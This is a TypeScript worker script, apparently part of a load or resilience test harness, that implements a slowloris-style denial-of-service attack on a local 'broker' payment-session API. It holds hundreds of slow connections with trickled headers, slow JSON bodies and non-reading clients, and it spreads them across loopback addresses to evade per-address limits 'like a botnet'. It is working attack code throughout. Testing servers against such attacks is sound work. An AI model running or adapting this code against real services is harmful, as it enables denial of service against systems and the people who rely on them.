// A process of its own, with file descriptors of its own: keeps slow connections open, and opens another for each that is closed.
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

export interface Attack {
  readonly port: number;
  readonly count: number;
  readonly authorization: string;
}

/** How the attack stands. */
export interface Standing {
  readonly held: number;
  /** Since the start, the held ones too. */
  readonly opened: number;
}

/** Below what a broker allows an address: a botnet's share. */
const perAddress = 100;
const atOnce = 400;
const dribbleMs = 1_000;
const lookMs = 20;

const lines = (authorization: string) => `host: broker\r\nauthorization: ${authorization}\r\ncontent-type: application/json\r\n`;

/** Slow headers, a slow body under a good key, and a reader that reads nothing. */
const openings = [
  (authorization: string) => `POST /v1/payment-sessions HTTP/1.1\r\n${lines(authorization)}x-slow: `,
  (authorization: string) => `POST /v1/payment-sessions HTTP/1.1\r\n${lines(authorization)}content-length: 60000\r\n\r\n{"metadata":{"a":"`,
  () => 'GET /openapi.json HTTP/1.1\r\nhost: broker\r\n\r\n',
] as const;

const held = new Set<Socket>();
const talkers = new Set<Socket>();
let opened = 0;
let connecting = 0;
let underWay = new AbortController();

/** Loopback addresses, each with its share of the connections. */
function addressOf(number: number): string {
  const address = Math.floor(number / perAddress);
  return `127.1.${address >> 8}.${(address & 0xff) + 1}`;
}

function open({ port, authorization, count }: Attack): void {
  const number = opened;
  opened += 1;
  connecting += 1;
  const socket = connect({ port, host: '127.0.0.1', localAddress: addressOf(number % count) });
  const opening = openings[number % openings.length];
  socket.once('connect', () => {
    connecting -= 1;
    held.add(socket);
    // The reader reads and says nothing more; the others read, to hear of their end.
    if (opening !== openings[2]) {
      talkers.add(socket);
      socket.resume();
    }
    socket.write(opening?.(authorization) ?? '');
  });
  socket.on('error', () => socket.destroy());
  socket.once('close', () => {
    if (!held.delete(socket)) connecting -= 1;
    talkers.delete(socket);
  });
}

/** Keeps the number up until it is called off. */
async function keepUp(attack: Attack, { signal }: AbortController): Promise<void> {
  while (!signal.aborted) {
    while (connecting < atOnce && connecting + held.size < attack.count) open(attack);
    await pause(lookMs);
  }
}

setInterval(() => {
  for (const socket of talkers) socket.write('x');
}, dribbleMs);

process.on('message', (asked: Attack | 'stop' | 'standing') => {
  if (asked === 'standing') process.send?.({ held: held.size, opened } satisfies Standing);
  else if (asked === 'stop') {
    underWay.abort();
    for (const socket of held) socket.destroy();
  } else {
    underWay = new AbortController();
    void keepUp(asked, underWay);
  }
});
process.on('disconnect', () => process.exit(0));
